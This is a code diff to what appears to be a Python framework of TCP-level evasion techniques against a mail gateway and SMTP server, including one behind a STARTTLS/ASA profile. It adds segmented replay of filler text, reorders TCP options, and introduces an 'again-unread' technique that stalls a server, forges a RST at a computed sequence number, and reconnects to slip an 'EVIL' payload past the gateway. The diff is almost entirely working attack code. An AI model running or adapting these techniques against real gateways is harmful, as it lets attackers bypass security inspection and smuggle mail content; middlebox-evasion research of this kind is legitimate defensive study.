@@ -24,6 +24,8 @@ technique = IDENTITY.technique
 
 #: Text that the gateway is to decide and the server to drop.
 APART = b"text that never was\r\n"
+#: Octets of one packet.
+SEGMENT = 1200
 MD5, AUTHENTICATION = (19, bytes(16)), (29, bytes(14))
 TLS_PROFILE = ("--profile", "asa-tls")
 TLS = Personality(starttls=True)
@@ -45,9 +47,10 @@ def speak_again(attack: Attack, new: RawTcp, acknowledged: int, decided: int) ->
     attack.wait(0.03)
     filler = lines(decided)
     for start, stop in ((0, acknowledged), (acknowledged, decided)):
-        if stop > start:
-            new.put(filler[start:stop], start)
-            attack.wait(0.01)
+        for place in range(start, stop, SEGMENT):
+            new.put(filler[place : min(stop, place + SEGMENT)], place)
+            if place % (16 * SEGMENT) == start % (16 * SEGMENT):
+                attack.wait(0.01)
     new.put(b"\r\n" + EVIL, decided)
     attack.wait(0.05)
 
@@ -211,7 +214,7 @@ def again_challenged(attack: Attack) -> None:
 @technique("again-edge", "a segment ahead of a gap; a RST at its end, which Linux takes (tcp_reset at the SACK's edge)")
 def again_edge(attack: Attack) -> None:
     attack.press()
-    options = [("SAckOK", b""), ("WScale", 7)]
+    options = [("WScale", 7), ("SAckOK", b"")]
     old = attack.tcp(timestamps=True)
     if not old.connect(timeout=4.0, options=options) or not old.read(4.0).startswith(b"220"):
         raise NotTried("no connection")
@@ -226,6 +229,27 @@ def again_edge(attack: Attack) -> None:
     new.connect(options=options, timeout=0.3)
     attack.compare(old, new)
     speak_again(attack, new, old.here, old.here + 8 + len(APART))
+
+
+@technique(
+    "again-unread",
+    "text in slivers to a program that does not read: Linux drops what it has no room for; RST at its number; again",
+    server=Personality(stalled=1.5),
+)
+def again_unread(attack: Attack) -> None:
+    attack.press()
+    old = attack.text()
+    old.put(b"Subject: x\r\n\r\n")
+    attack.wait(0.05)
+    for number in range(1000):
+        old.put(b"xxx")  # no line, which the next connection's server would answer
+        if number % 16 == 15:
+            attack.wait(0.002)
+    attack.wait(0.05)
+    place = (old.acknowledged - old.isn - 1) % (1 << 32)
+    attack.notes.append(f"the server lacks {old.here - place} octets")
+    old.stray(flags=RST, at=place)
+    speak_again(attack, attack.again(old), place, old.here)
 
 
 @technique("again-behind-ahead", "the text went ahead of a gap and was refused; RST at the server's number; again")
@@ -397,7 +421,7 @@ def below(connection: RawTcp) -> None:
     connection.stray(b"x", connection.here - (1 << 30))
 
 
-for _name, _why, _send, _fields in (
+for _name, _why, _moves, _how in (
     ("far", "an octet far out of the window; RST at the server's number; the same connection again", far, {}),
     ("signed", "octets the server drops; RST at its number; the same connection again", signed, {}),
     ("far-fin", "a FIN far out of the window; RST at the server's number; the same connection again", far_fin, {}),
@@ -409,5 +433,5 @@ for _name, _why, _send, _fields in (
     ("no-syn-other", "an exact RST; the cookie for another ISN, no SYN", nothing, {"syn": False, "isn": 900}),
 ):
     technique(f"passed-{_name}", f"behind STARTTLS: {_why}", options=TLS_PROFILE, server=TLS)(
-        passed_again(_send, **_fields)
+        passed_again(_moves, **_how)
     )
